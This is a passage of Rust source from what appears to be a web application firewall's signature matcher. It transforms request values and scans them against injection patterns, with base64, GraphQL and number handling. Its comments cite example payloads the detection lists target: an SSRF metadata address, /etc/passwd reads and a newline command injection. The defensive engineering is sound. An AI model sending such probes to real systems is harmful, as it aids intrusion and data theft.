        computed & !self.identity_masks[usize::from(plain_level(value))] == 0
    }

    /// Matches `locations` (and the `repeats` of their names) and appends findings.
    /// `touched[i]` is set for every location that produced a finding or was left
    /// unconfirmed because a pattern had reached its cap of reported locations: the others
    /// are known to match nothing.
    fn run(
        &self,
        locations: &[Location<'_>],
        repeats: &[Repeat<'_>],
        paranoia: u8,
        out: &mut Vec<Finding>,
        touched: &mut [bool],
    ) {
        let present: u8 = locations.iter().fold(0, |acc, l| acc | l.targets);
        if present & self.targets == 0 {
            return;
        }
        let groups = self.groups.iter().filter(|g| present & g.target.bit() != 0);
        // variants[loc][pipeline]: each value transformed once per pipeline it needs, a
        // pipeline starting from its longest prefix pipeline's result.
        let np = self.pipelines.len();
        // rows[loc]: Plain when every pipeline leaves the value as it is (the common case);
        // otherwise an offset into `variants`, where variants[row + p] is the value after
        // pipeline p, computed once from its longest prefix pipeline's result.
        let mut rows: Vec<Row> = Vec::with_capacity(locations.len());
        let mut variants: Vec<Variant> = Vec::with_capacity(4 * np);
        // For each set of targets seen (a handful per request): the pipelines needed, and
        // those whose results are needed.
        let mut needs: Vec<(u8, u64, u64)> = Vec::new();
        let identity = &self.identity_masks;
        // each location's plain level (0 when not computed)
        let mut levels: Vec<u8> = Vec::with_capacity(locations.len());
        for loc in locations {
            // A value only groups with `gate_before_variants` look at (a parsed JSON or form
            // body, 20 KB of an order) is first asked for their gates: closed, it holds no
            // match, and its variants are not computed nor copied into the haystack.
            if loc.targets & !self.gated_targets == 0
                && memchr::memchr(0, loc.value).is_none()
                && self
                    .groups
                    .iter()
                    .filter(|g| loc.targets & g.target.bit() != 0)
                    .all(|g| g.ac_gate.as_ref().is_some_and(|gate| !gate.open(loc.value)))
            {
                rows.push(Row::GatedOut);
                levels.push(0);
                continue;
            }
            let known = needs.iter().find(|n| n.0 == loc.targets);
            let (needed, computed) = match known {
                Some(&(_, needed, computed)) => (needed, computed),
                None => {
                    let (needed, computed) = self.computed_pipelines(loc.targets);
                    needs.push((loc.targets, needed, computed));
                    (needed, computed)
                }
            };
            let plain_level = plain_level(loc.value);
            levels.push(plain_level);
            if computed & !identity[usize::from(plain_level)] == 0 {
                rows.push(Row::Plain);
                continue;
            }
            let row = variants.len();
            rows.push(Row::At(row));
            variants.resize_with(row + np, || Variant::Unused);
            for p in 0..np {
                if needed & self.pipeline_closure[p] == 0 {
                    continue;
                }
                if plain_level >= self.pipeline_plain_level[p] {
                    variants[row + p] = Variant::Original;
                    continue;
                }
                let (source, steps) = match self.pipeline_parent[p] {
                    Some((parent, len)) => (Variant::Alias(parent), &self.pipelines[p][len..]),
                    None => (Variant::Original, &self.pipelines[p][..]),
                };
                let from = resolve(&variants[row..row + np], &source, loc.value);
                // Matching ignores ASCII case, so a result differing only in case (cmdLine
                // lowercases) is the same variant: alias it rather than scan it twice.
                // (not `apply_all`: whether this value is plain was asked above, and asking
                // again of the parent's result seldom pays for itself)
                let result = match apply_steps(steps, from) {
                    Cow::Borrowed(b) if b.len() == from.len() => source,
                    Cow::Owned(o) if o.eq_ignore_ascii_case(from) => source,
                    other => Variant::Owned(other.into_owned()),
                };
                variants[row + p] = result;
            }
        }
        // Locations are numbered in `locations`, then repeats after them
        // (`locations.len() + index`); a name repeat's bytes are left as they are by every
        // pipeline, a value repeat's variants are its head's.
        let kept = locations.len();
        let variant = |loc: usize, p: usize| -> &[u8] {
            let loc = match repeats.get(loc.wrapping_sub(kept)) {
                Some(Repeat {
                    same_as: Some(head),
                    ..
                }) => *head as usize,
                Some(r) => return r.value,
                None => loc,
            };
            match rows.get(loc) {
                None | Some(Row::GatedOut) => &[],
                Some(Row::Plain) => locations[loc].value,
                Some(&Row::At(row)) => {
                    let row = &variants[row..row + np];
                    resolve(row, &row[p], locations[loc].value)
                }
            }
        };
        let place = |loc: usize| -> &Place<'_> {
            match locations.get(loc) {
                Some(l) => &l.place,
                // (every number past the locations is a repeat's: the fallback is unused)
                None => repeats.get(loc - kept).map_or(&Place::Body, |r| &r.place),
            }
        };
        // Position in request order, for reporting a pattern's locations in that order.
        let order = |loc: usize| -> usize {
            if loc < kept {
                loc + repeats.partition_point(|r| r.kept_before as usize <= loc)
            } else {
                repeats
                    .get(loc - kept)
                    .map_or(usize::MAX, |r| r.kept_before as usize + (loc - kept))
            }
        };

        // Sized up front: growing these by doubling cost more than the matching on small
        // requests.
        let total: usize = locations.iter().map(|l| l.value.len() + 1).sum();
        let mut haystack: Vec<u8> = Vec::with_capacity(total + total / 4);
        // (offset, location) of each segment; one segment per distinct variant of a value
        let mut starts: Vec<(usize, usize)> = Vec::with_capacity(locations.len() + 8);
        // Further locations whose variant has the same bytes as a segment: `dup_head[k]` is
        // the first entry of segment k's list in `dups` ((location, next entry) pairs).
        // Repeated values (array items, identical form fields) are scanned once.
        let mut dup_head: Vec<usize> = Vec::with_capacity(locations.len() + 8);
        let mut dups: Vec<(usize, usize)> = Vec::with_capacity(locations.len());
        // keyed: a request cannot choose values that collide into one bucket
        let mut segment_by_bytes: HashMap<&[u8], usize, foldhash::fast::RandomState> =
            HashMap::default();
        // Scratch space reused by every group.
        let mut distinct: Vec<&[u8]> = Vec::new();
        // (bytes, location, whether the bytes are a plain value)
        let mut segments: Vec<(&[u8], usize, bool)> = Vec::with_capacity(locations.len() + 8);
        let mut hit_segments: Vec<usize> = Vec::new();
        let mut literal_hits: Vec<(usize, usize)> = Vec::new();
        let mut required_hits: Vec<(usize, usize)> = Vec::new();
        let mut always_candidates: Vec<usize> = Vec::new();
        let mut candidate_ids: Vec<usize> = Vec::new();
        let mut scanned: Vec<usize> = Vec::new();
        let mut plain_word_segments: Vec<usize> = Vec::new();
        for group in groups {
            let bit = group.target.bit();
            haystack.clear();
            starts.clear();
            dup_head.clear();
            dups.clear();
            segment_by_bytes.clear();
            segments.clear();
            for (i, loc) in locations.iter().enumerate() {
                if loc.targets & bit == 0 {
                    continue;
                }
                let plain = levels[i] >= 1;
                match rows[i] {
                    Row::Plain => {
                        segments.push((loc.value, i, plain));
                        continue;
                    }
                    Row::GatedOut => continue,
                    Row::At(_) => {}
                }
                distinct.clear();
                for &p in &group.pipelines {
                    let v = variant(i, p);
                    // same bytes in memory (the common case) or equal content
                    if !distinct
                        .iter()
                        .any(|d| (d.as_ptr() == v.as_ptr() && d.len() == v.len()) || *d == v)
                    {
                        distinct.push(v);
                    }
                }
                // (a variant is the value itself, plain or not, or a transformation's result,
                // taken as not plain)
                segments.extend(distinct.iter().map(|&v| {
                    let original =
                        std::ptr::eq(v.as_ptr(), loc.value.as_ptr()) && v.len() == loc.value.len();
                    (v, i, plain && original)
                }));
            }
            // With a plain scan, plain values go after the others: the shared DFA walks
            // only the part before them (equal bytes are equally plain, so a repeated
            // value's first segment is in its part).
            let split = group.plain_scan.is_some();
            let mut plain_from = None;
            for plain_part in [false, true] {
                if plain_part {
                    if !split {
                        break;
                    }
                    plain_from = Some(haystack.len());
                }
                for &(v, i, plain) in &segments {
                    if split && plain != plain_part {
                        continue;
                    }
                    if (MIN_DEDUP_LEN..=MAX_DEDUP_LEN).contains(&v.len()) {
                        match segment_by_bytes.entry(v) {
                            Entry::Occupied(e) => {
                                let k = *e.get();
                                if starts[k].1 != i {
                                    dups.push((i, dup_head[k]));
                                    dup_head[k] = dups.len() - 1;
                                }
                                continue;
                            }
                            Entry::Vacant(e) => {
                                e.insert(starts.len());
                            }
                        }
                    }
                    starts.push((haystack.len(), i));
                    dup_head.push(NO_DUP);
                    haystack.extend_from_slice(v);
                    haystack.push(b'\n');
                }
            }
            let plain_from = plain_from.unwrap_or(haystack.len());
            if starts.is_empty() {
                continue;
            }
            let hay = &haystack[..];
            let segment_of = |pos: usize| starts.partition_point(|&(s, _)| s <= pos) - 1;
            // Every location whose variants include segment `k`, and their repeats.
            let locations_of = |k: usize, f: &mut dyn FnMut(usize)| {
                let mut with_repeats = |loc: usize| {
                    f(loc);
                    let mut r = locations[loc].repeat_head;
                    while let Some(repeat) = repeats.get(r as usize) {
                        f(kept + r as usize);
                        r = repeat.next;
                    }
                };
                with_repeats(starts[k].1);
                let mut d = dup_head[k];
                while d != NO_DUP {
                    with_repeats(dups[d].0);
                    d = dups[d].1;
                }
            };

            // Literal patterns and regexes with a required literal: the locations where one
            // of their literals occurs (any match of the regex on a value contains one of its
            // literals, and every variant a pattern is confirmed on is part of the haystack).
            literal_hits.clear();
            required_hits.clear();
            plain_word_segments.clear();
            // Regexes without one that the shared DFA says may match somewhere.
            always_candidates.clear();
            // Segment bounds: its bytes and the separator after them.
            let segment_end = |k: usize| starts.get(k + 1).map_or(hay.len(), |&(s, _)| s);
            let gate_open = group.ac_gate.as_ref().is_none_or(|gate| gate.open(hay));
            if let Some(ac) = group.ac.as_ref().filter(|_| gate_open) {
                // Two passes: a plain search finds the segments with any needle (each search
                // reports the match that ends first, so no segment before it holds one; the
                // next search starts at the following segment), then only those segments
                // are searched for every overlapping needle. Most values hold none, and the
                // plain search is several times faster per byte than the overlapping one.
                // The first pass walks three parts of the haystack at once
                // ([`crate::interleaved`]).
                crate::interleaved::segments_with_needles(ac, hay, &starts, &mut hit_segments);
                // A needle across a separator is in no value: only matches inside a segment
                // count (the confirmations below run on single values anyway).
                let matches = hit_segments.iter().flat_map(|&k| {
                    ac.nfa
                        .try_find_overlapping_iter(
                            aho_corasick::Input::new(hay).range(starts[k].0..segment_end(k)),
                        )
                        .into_iter()
                        .flatten()
                        .map(move |m| (k, m))
                });
                for (k, m) in matches {
                    match &group.ac_entries[m.pattern().as_usize()] {
                        AcEntry::Required(ids) => {
                            for &id in ids {
                                if group.regex_info[id].paranoia <= paranoia {
                                    locations_of(k, &mut |loc| required_hits.push((id, loc)));
                                }
                            }
                        }
                        AcEntry::Literal(pid) => {
                            if group.literal_info[*pid].paranoia <= paranoia {
                                locations_of(k, &mut |loc| literal_hits.push((*pid, loc)));
                            }
                        }
                        AcEntry::PlainWord => {
                            if starts[k].0 >= plain_from {
                                plain_word_segments.push(k);
                            }
                        }
                    }
                }
            }
            // Pattern order, then request order: the first locations of each pattern are
            // the ones reported.
            sort_in_request_order(&mut literal_hits, repeats.is_empty(), order);
            literal_hits.dedup();
            let mut r = 0;
            while r < literal_hits.len() {
                let pid = literal_hits[r].0;
                let info = &group.literal_info[pid];
                let mut reported = 0;
                while r < literal_hits.len() && literal_hits[r].0 == pid {
                    let loc = literal_hits[r].1;
                    r += 1;
                    // beyond the cap a location is not looked at: it may hold a match
                    mark(touched, loc);
                    if reported >= MAX_LOCATIONS_PER_PATTERN {
                        continue;
                    }
                    reported += 1;
                    // the hit may be in another pipeline's variant: confirm on this pattern's
                    let own = variant(loc, info.pipeline);
                    if let Some(lit) = &info.literal {
                        if let Some(found) = lit.find(own) {
                            out.push(finding(info, place(loc), &own[found.start()..found.end()]));
                        }
                    }
                }
            }
            if let Some(re) = &group.always {
                // Same two passes: the earliest match end names a segment that holds a
                // match (one ending before it would have been found first), then that
                // segment alone is searched for every pattern.
                let mut hits = PatternSet::new(re.pattern_len());
                let mut pos = 0;
                while pos < plain_from {
                    let input = regex_automata::Input::new(hay)
                        .range(pos..plain_from)
                        .earliest(true);
                    let Some(end) = re.search_half(&input).map(|h| h.offset()) else {
                        break;
                    };
                    let k = segment_of(end.saturating_sub(1).max(pos));
                    let whole = regex_automata::Input::new(hay).range(starts[k].0..segment_end(k));
                    re.which_overlapping_matches(&whole, &mut hits);
                    pos = segment_end(k);
                }
                for pid in hits.iter() {
                    let id = group.always_ids[pid.as_usize()];
                    if group.regex_info[id].paranoia <= paranoia {
                        always_candidates.push(id);
                    }
                }
            }
            // Plain values, for the regexes that can match one: tried where a match can
            // start (see `crate::plain`).
            if let Some(scan) = group.plain_scan.as_ref().filter(|_| plain_from < hay.len()) {
                let first_plain = starts.partition_point(|&(s, _)| s < plain_from);
                let anchored = |k: usize, at: usize| {
                    regex_automata::Input::new(hay)
                        .range(at..segment_end(k))
                        .anchored(regex_automata::Anchored::Yes)
                };
                if let Some(at_start) = &scan.anchored {
                    let mut hits = PatternSet::new(at_start.regex.pattern_len());
                    for (k, &(s, _)) in starts.iter().enumerate().skip(first_plain) {
                        if at_start.first[usize::from(hay[s])] {
                            at_start
                                .regex
                                .which_overlapping_matches(&anchored(k, s), &mut hits);
                        }
                    }
                    always_candidates.extend(
                        hits.iter()
                            .map(|pid| at_start.ids[pid.as_usize()])
                            .filter(|&id| group.regex_info[id].paranoia <= paranoia),
                    );
                }
                if let Some(prefixed) = &scan.prefixed {
                    let mut hits = PatternSet::new(prefixed.regex.pattern_len());
                    // each plain value holding one of the words (found by the literal
                    // scan), searched whole
                    plain_word_segments.sort_unstable();
                    plain_word_segments.dedup();
                    for &k in &plain_word_segments {
                        let whole =
                            regex_automata::Input::new(hay).range(starts[k].0..segment_end(k));
                        prefixed.regex.which_overlapping_matches(&whole, &mut hits);
                    }
                    always_candidates.extend(
                        hits.iter()
                            .map(|pid| prefixed.ids[pid.as_usize()])
                            .filter(|&id| group.regex_info[id].paranoia <= paranoia),
                    );
                }
            }
            sort_in_request_order(&mut required_hits, repeats.is_empty(), order);
            required_hits.dedup();
            always_candidates.sort_unstable();
            always_candidates.dedup();
            // Only the regexes with a candidate, in pattern order.
            candidate_ids.clear();
            candidate_ids.extend(required_hits.iter().map(|h| h.0));
            candidate_ids.extend(&always_candidates);
            candidate_ids.sort_unstable();
            candidate_ids.dedup();
            let mut r = 0;
            for &id in &candidate_ids {
                let info = &group.regex_info[id];
                let Some(confirm) = &info.confirm else {
                    continue;
                };
                while r < required_hits.len() && required_hits[r].0 < id {
                    r += 1;
                }
                if r < required_hits.len() && required_hits[r].0 == id {
                    let mut reported = 0;
                    while r < required_hits.len() && required_hits[r].0 == id {
                        let loc = required_hits[r].1;
                        r += 1;
                        if reported >= MAX_LOCATIONS_PER_PATTERN {
                            mark(touched, loc);
                            continue;
                        }
                        let own = variant(loc, info.pipeline);
                        if let Some(found) = confirm.find(own) {
                            mark(touched, loc);
                            out.push(finding(info, place(loc), found.as_bytes()));
                            reported += 1;
                        }
                    }
                    continue;
                }
                if always_candidates.binary_search(&id).is_err() {
                    continue;
                }
                let Some(scan) = &info.scan else {
                    continue;
                };
                // One linear scan of the joined values per candidate pattern; each value with
                // a match starting in one of its segments is then confirmed on its own variant
                // for this pattern's pipeline (so `^`, `$` and spans never cross values), in
                // request order.
                scanned.clear();
                let mut pos = 0;
                while pos < hay.len() {
                    let Some(m) = scan.find_at(hay, pos) else {
                        break;
                    };
                    let k = segment_of(m.start());
                    locations_of(k, &mut |loc| scanned.push(loc));
                    pos = starts.get(k + 1).map_or(hay.len(), |&(s, _)| s);
                }
                if repeats.is_empty() {
                    scanned.sort_unstable();
                } else {
                    scanned.sort_unstable_by_key(|&loc| order(loc));
                }
                scanned.dedup();
                let mut reported = 0;
                for &loc in &scanned {
                    if reported >= MAX_LOCATIONS_PER_PATTERN {
                        mark(touched, loc);
                        continue;
                    }
                    let own = variant(loc, info.pipeline);
                    if let Some(found) = confirm.find(own) {
                        mark(touched, loc);
                        out.push(finding(info, place(loc), found.as_bytes()));
                        reported += 1;
                    }
                }
            }
        }
    }
}

/// Sorts (pattern, location) pairs by pattern, then by the locations' request order
/// (`order`; their numbers are that order when there are no repeats).
fn sort_in_request_order(
    hits: &mut [(usize, usize)],
    no_repeats: bool,
    order: impl Fn(usize) -> usize,
) {
    if no_repeats {
        hits.sort_unstable();
    } else {
        hits.sort_unstable_by_key(|&(pattern, loc)| (pattern, order(loc)));
    }
}

/// Notes that location `loc` (when not a repeat) produced a finding or was not looked at.
fn mark(touched: &mut [bool], loc: usize) {
    if let Some(t) = touched.get_mut(loc) {
        *t = true;
    }
}

/// The argument values a set may leave out when no `args` pattern can match them: decimal
/// numbers as sent (`42`, `-3`, `83.99`; not `1.2.3` or `169.254.169.254`, which SSRF
/// patterns look for), as a small automaton over bytes: the state after `-`, after integer
/// digits, after `.`, after fraction digits. [`number_step`] gives the next state.
const NUMBER_START: u8 = 0;
const NUMBER_SIGN: u8 = 1;
const NUMBER_INT: u8 = 2;
const NUMBER_DOT: u8 = 3;
const NUMBER_FRACTION: u8 = 4;
/// The bytes a number holds.
const NUMBER_BYTES: &[u8] = b"0123456789.-";

/// The number automaton's next state, or None when `b` cannot come next.
fn number_step(state: u8, b: u8) -> Option<u8> {
    match (state, b) {
        (NUMBER_START, b'-') => Some(NUMBER_SIGN),
        (NUMBER_START | NUMBER_SIGN | NUMBER_INT, b'0'..=b'9') => Some(NUMBER_INT),
        (NUMBER_INT, b'.') => Some(NUMBER_DOT),
        (NUMBER_DOT | NUMBER_FRACTION, b'0'..=b'9') => Some(NUMBER_FRACTION),
        _ => None,
    }
}

/// Whether the number automaton may stop in `state` (a whole number was read).
fn number_complete(state: u8) -> bool {
    state == NUMBER_INT || state == NUMBER_FRACTION
}

/// The segments of a raw request path that may carry a payload, each percent-decoded once
/// as query values are (`+` stays: it is no space in a path). A segment that is a plain
/// name after decoding (letters, digits, single dots, dashes and spaces:
/// [`palisade_http::transform::is_plain`]) is left out: `/sessions/whoami`, `/wiki/Ifconfig`
/// or `/d/boot.ini` are resource names, not injections, and the whole-value patterns of the
/// args lists (a value that *is* `whoami`) would block them; the `url/` lists still see
/// the path. Every injection needs some other byte (a quote, `(`, `<`, `;`, `|`, `=`...).
/// GraphQL documents among the query string and body arguments (by the address of their
/// value) with their line breaks read as spaces. A document's line breaks separate fields:
/// `{\n  viewer {\n    id\n  }\n}` selects `id`, which the command injection lists would
/// read as `id` run after a newline (`%0aid`); its string literals, where a client's input
/// goes, are scanned as values of their own with their line breaks intact
/// ([`RequestModel::graphql_args`]). Documents without a line break are left out: they are
/// scanned as sent, as is a value that only starts like a document (`{` or `query`, then
/// a line break and a command or a header: `palisade_http::graphql::is_well_formed`).
/// In argument order (query string, then body), as [`SignatureSet::request_locations`]
/// reads them.
fn graphql_documents_on_one_line(request: &RequestModel) -> Vec<(*const u8, Vec<u8>)> {
    // counted while parsing: most requests have none, and a pass over a JSON order's 700
    // leaves to find out cost ~20k instructions
    let in_body = request.body.as_ref().map_or(0, |b| b.graphql_documents);
    if request.graphql_documents_get + in_body == 0 {
        return Vec::new();
    }
    let body_args = request.body.as_ref().map_or(&[][..], |b| &b.args[..]);
    request
        .args_get
        .iter()
        .chain(body_args)
        .filter(|a| {
            palisade_http::body::is_graphql_document(&a.name, &a.value)
                && memchr::memchr2(b'\n', b'\r', &a.value).is_some()
                && palisade_http::graphql::is_well_formed(&a.value)
        })
        .map(|a| {
            let flat = a
                .value
                .iter()
                .map(|&b| if b == b'\n' || b == b'\r' { b' ' } else { b })
                .collect();
            (a.value.as_ptr(), flat)
        })
        .collect()
}

fn path_segments(path_raw: &str) -> Vec<Cow<'_, [u8]>> {
    path_raw
        .as_bytes()
        .split(|&b| b == b'/')
        .filter(|s| !s.is_empty())
        .map(|s| {
            if s.contains(&b'%') {
                Cow::Owned(palisade_http::urlencoded::percent_decode(s, false))
            } else {
                Cow::Borrowed(s)
            }
        })
        .filter(|s| !palisade_http::transform::is_plain(s))
        .collect()
}

/// Argument and cookie values that hold text in base64 ([`palisade_http::transform::base64_text`]),
/// decoded: an application that decodes a parameter runs whatever it holds. A decoded JSON
/// document gives its fields, each a value of its own (the quotes and colons around them
/// are the encoder's, not a payload's). Header values are left alone: `Authorization:
/// Basic` holds a password, and findings show what matched.
///
/// Bounded per request: decoded texts longer than [`BASE64_MAX_DECODED`] are documents
/// (an attachment's HTML or SQL file; uploads are not matched against the args lists
/// either), and at most [`BASE64_MAX_LOCATIONS`] decoded values are added. Fields of a
/// decoded document whose names name a secret are left out (their matched text would be
/// reported under the outer argument's name, unredacted).
fn base64_values(request: &RequestModel) -> Vec<(Place<'_>, Vec<u8>)> {
    use palisade_http::transform::base64_text;
    fn add<'r>(place: Place<'r>, text: Vec<u8>, out: &mut Vec<(Place<'r>, Vec<u8>)>) {
        if matches!(text.first(), Some(b'{' | b'[')) {
            let mut fields = Vec::new();
            if palisade_http::json::flatten(&text, BASE64_MAX_LOCATIONS, &mut fields).is_ok() {
                out.extend(
                    fields
                        .into_iter()
                        .filter(|f| !f.value.is_empty() && !names_a_secret(&f.name))
                        .map(|f| (place, f.value.into_vec())),
                );
                return;
            }
        }
        out.push((place, text));
    }
    let mut out = Vec::new();
    let body_args = request.body.as_ref().map_or(&[][..], |b| &b.args[..]);
    // (the place, which reads the name, only for a value that decodes: most do not)
    let args = request
        .args_get
        .iter()
        .chain(body_args)
        .chain(&request.graphql_args)
        .map(|a| (a, false));
    let cookies = request.cookies.iter().map(|c| (c, true));
    for (arg, cookie) in args.chain(cookies) {
        if out.len() >= BASE64_MAX_LOCATIONS {
            break;
        }
        if let Some(text) = base64_text(&arg.value).filter(|t| t.len() <= BASE64_MAX_DECODED) {
            let place = if cookie {
                Place::CookieValueBase64(&arg.name)
            } else {
                Place::ArgValueBase64(&arg.name)
            };
            add(place, text, &mut out);
        }
    }
    out.truncate(BASE64_MAX_LOCATIONS);
    out
}

/// The bytes of a JSON body from where its parser stopped, when it stopped after reading
/// fields.
fn json_tail(body: &palisade_http::BodyModel) -> Option<&[u8]> {
    if body.kind != BodyKind::Json || body.args.is_empty() {
        return None;
    }
    body.raw.get(body.json_stopped_at?..)
}

/// Longest base64-decoded text matched as an argument value.
const BASE64_MAX_DECODED: usize = 4096;
/// Most base64-decoded values (or decoded documents' fields) matched per request.
const BASE64_MAX_LOCATIONS: usize = 256;

/// Whether a field name marks a secret: the audit log's own default test, so that what it
/// would redact under that name is never reported under another.
fn names_a_secret(name: &str) -> bool {
    static REDACTOR: std::sync::LazyLock<palisade_engine::audit::Redactor> =
        std::sync::LazyLock::new(palisade_engine::audit::Redactor::default);
    REDACTOR.is_secret_arg(name)
}

/// Whether `text` assigns a field whose name marks a secret (`password=`, `"api_token":`):
/// a secret name, more name bytes, an optional closing quote, then `=` or `:`.
fn holds_a_secret_field(text: &[u8]) -> bool {
    secret_name_ends(text).any(|end| {
        let rest = &text[end..];
        let name_end = rest
            .iter()
            .position(|b| !(b.is_ascii_alphanumeric() || *b == b'_' || *b == b'-'))
            .unwrap_or(rest.len());
        let rest = &rest[name_end..];
        let rest = rest
            .strip_prefix(b"\"")
            .or(rest.strip_prefix(b"'"))
            .unwrap_or(rest);
        let rest = rest.trim_ascii_start();
        matches!(rest.first(), Some(b'=' | b':'))
    })
}

/// The end offsets of secret names in `text`.
fn secret_name_ends(text: &[u8]) -> impl Iterator<Item = usize> + '_ {
    // (not `pass` alone: /etc/passwd is the payload most often sent)
    const PARTS: [&[u8]; 8] = [
        b"password",
        b"passphrase",
        b"secret",
        b"token",
        b"api_key",
        b"apikey",
        b"credential",
        b"private_key",
    ];
    (0..text.len()).flat_map(move |i| {
        PARTS.iter().filter_map(move |p| {
            let end = i + p.len();
            (end <= text.len() && text[i..end].eq_ignore_ascii_case(p)).then_some(end)
        })
    })
}

/// [`plain_level`] of a value that [`is_number`], without looking at every byte again: an
/// optional `-`, digits, and at most one `.` between digits. A leading `-` is not plain;
/// otherwise the digits are plain anywhere and the one `.` is single: plain, no comma.
fn number_plain_level(number: &[u8]) -> u8 {
    if number.first() == Some(&b'-') {
        0
    } else {
        2
    }
}

/// Whether `value` is a decimal number (short ones only: a long run of digits is no
/// quantity, and is left to be scanned).
fn is_number(value: &[u8]) -> bool {
    if value.len() > 32 {
        return false;
    }
    let mut state = NUMBER_START;
    for &b in value {
        match number_step(state, b) {
            Some(next) => state = next,
            None => return false,
        }
    }
    number_complete(state)
}

/// Whether `regex`, compiled as the matcher compiles it, can match in some value that
/// [`is_number`]. True when unsure. A regex whose every match holds one of its required
/// literals cannot when each of those has a byte no number has; the others are decided by
/// walking a lazy DFA of the regex together with the number automaton from the start of a
/// value, looking for a state where a match ends (before the next byte, or at the end of a
/// whole number).
fn regex_may_match_numbers(regex: &str, pipeline: &[Transform]) -> bool {
    use regex_automata::hybrid::dfa::DFA;
    use regex_automata::nfa::thompson;
    use regex_automata::util::syntax;
    let compressed = crate::prefilter::compresses_whitespace(pipeline);
    if let Some(literals) = crate::prefilter::required_literals_with(regex, compressed) {
        let has_other_byte = |lit: &Vec<u8>| lit.iter().any(|b| !NUMBER_BYTES.contains(b));
        if !literals.is_empty() && literals.iter().all(has_other_byte) {
            return false;
        }
    }
    let built = DFA::builder()
        .syntax(
            syntax::Config::new()
                .case_insensitive(true)
                .unicode(false)
                .utf8(false),
        )
        .thompson(thompson::Config::new().utf8(false))
        // a full cache is an error rather than a silent clear (which would invalidate the
        // state ids held below)
        .configure(DFA::config().minimum_cache_clear_count(Some(0)))
        .build(regex);
    let Ok(dfa) = built else {
        return true;
    };
    let mut cache = dfa.create_cache();
    let start = dfa.start_state_forward(&mut cache, &regex_automata::Input::new(&b""[..]));
    let Ok(start) = start else {
        return true;
    };
    let mut seen = vec![(start, NUMBER_START)];
    let mut queue = vec![(start, NUMBER_START)];
    while let Some((sid, state)) = queue.pop() {
        // a match ending at the end of a whole number
        if number_complete(state) {
            match dfa.next_eoi_state(&mut cache, sid) {
                Ok(end) if !end.is_match() => {}
                _ => return true,
            }
        }
        for &b in NUMBER_BYTES {
            let Some(next_state) = number_step(state, b) else {
                continue;
            };
            let Ok(next) = dfa.next_state(&mut cache, sid, b) else {
                return true;
            };
            // a match ending before this byte (every prefix of a number can be completed)
            if next.is_match() || next.is_quit() || next.is_unknown() {
                return true;
            }
            if next.is_dead() || seen.contains(&(next, next_state)) {
                continue;
            }
            if seen.len() >= 4096 {
                return true;
            }
            seen.push((next, next_state));
            queue.push((next, next_state));
        }
    }
    false
}

/// The clean-value cache key of a value matched against `targets` at `paranoia`, in `key`;
/// false when the value is too long to be remembered.
fn clean_key(key: &mut Vec<u8>, targets: u8, paranoia: u8, value: &[u8]) -> bool {
    key.clear();
    if value.len() + 2 > MAX_KEY_LEN {
        return false;
    }
    key.extend_from_slice(&[targets, paranoia]);
    key.extend_from_slice(value);
    true
}

/// Whether any of `bytes` (at most six) occurs in `hay`, by vectorized searches.
fn any_byte_in(hay: &[u8], bytes: &[u8]) -> bool {
    bytes.chunks(3).any(|c| match *c {
        [a] => memchr::memchr(a, hay).is_some(),
        [a, b] => memchr::memchr2(a, b, hay).is_some(),
        [a, b, c] => memchr::memchr3(a, b, c, hay).is_some(),
        _ => true,
    })
}

/// Values longer than this are not looked up for duplicates: hashing them costs more than
/// the rare repeat would save.
const MAX_DEDUP_LEN: usize = 1024;
/// Shorter values are scanned again rather than looked up: hashing and probing cost more
/// than scanning a few dozen bytes (JSON bodies have hundreds of short unique leaves).
const MIN_DEDUP_LEN: usize = 32;
const NO_DUP: usize = usize::MAX;

fn finding(info: &PatternInfo, place: &Place<'_>, matched: &[u8]) -> Finding {
    let message = match place {
        Place::ArgValueBase64(_) | Place::CookieValueBase64(_) => {
            Cow::Owned(format!("{} (in the base64-decoded value)", info.message))
        }
        _ => Cow::Borrowed(info.message.as_str()),
    };
    Finding::new(
        &info.id,
        "signatures",
        &message,
        &info.category,
        info.severity,
        &place.target_name(),
        matched,
        info.paranoia,
    )
}

fn builtin_sources() -> Result<Vec<SignatureSource>, LoadError> {
    let mut sources = Vec::new();
    for (rel, text) in crate::BUILTIN_FILES {
        let (dir, _) = rel.split_once('/').unwrap_or(("", rel));
        let target = Target::from_dir_name(dir).ok_or_else(|| LoadError {
            file: PathBuf::from(format!("<builtin>/{rel}")),
            line: 0,
            message: format!("unknown target directory {dir:?}"),
        })?;
        let Some(kind) = FileKind::from_path(rel) else {
            continue;
        };
        sources.push(SignatureSource {
            label: format!("builtin:{rel}"),
            origin: PathBuf::from(format!("<builtin>/{rel}")),
            target,
            kind,
            text: (*text).to_string(),
        });
    }
    Ok(sources)
}

/// Sources for the built-in set.
pub fn builtin() -> Result<Vec<SignatureSource>, LoadError> {
    builtin_sources()
}

/// Sources from a user directory laid out as `DIR/<target>/<file>`.
pub fn from_dir(dir: &Path) -> Result<Vec<SignatureSource>, LoadError> {
    read_dir(dir, "")
}

/// A user-agent list in the bad-bot-blocker format (one regex-escaped token per line).
pub fn agent_list(path: &Path) -> Result<SignatureSource, LoadError> {
    let text = std::fs::read_to_string(path).map_err(|e| LoadError {
        file: path.to_path_buf(),
        line: 0,
        message: e.to_string(),
    })?;
    let name = path
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_else(|| "agents.list".into());
    Ok(SignatureSource {
        label: format!("agents/{name}"),
        origin: path.to_path_buf(),
        target: Target::Agents,
        kind: FileKind::EscapedWords,
        text: format!("#@ category: scanner\n#@ message: User-Agent on the bad-bot list\n{text}"),
    })
}

/// Whether `t` may make a value longer. The decoders, removals and normalizations only keep
/// or shrink a value (an escape or entity is never shorter than what it decodes to, and
/// `unicodeNormalize` maps multibyte forms to ASCII); encoders, digests, `length` (of an
/// empty value) and the path normalizations (conservatively) may not.
fn may_lengthen(t: &Transform) -> bool {
    !matches!(
        t,
        Transform::None
            | Transform::UrlDecode
            | Transform::UrlDecodeUni
            | Transform::HtmlEntityDecode
            | Transform::JsDecode
            | Transform::CssDecode
            | Transform::Base64Decode
            | Transform::Base64DecodeExt
            | Transform::HexDecode
            | Transform::SqlHexDecode
            | Transform::Lowercase
            | Transform::Uppercase
            | Transform::RemoveNulls
            | Transform::ReplaceNulls
            | Transform::CompressWhitespace
            | Transform::RemoveWhitespace
            | Transform::ReplaceComments
            | Transform::RemoveComments
            | Transform::RemoveCommentsChar
            | Transform::CmdLine
            | Transform::Trim
            | Transform::TrimLeft
            | Transform::TrimRight
            | Transform::EscapeSeqDecode
            | Transform::UnicodeNormalize
    )
}

fn compile(specs: Vec<PatternSpec>) -> Result<SignatureSet, LoadError> {
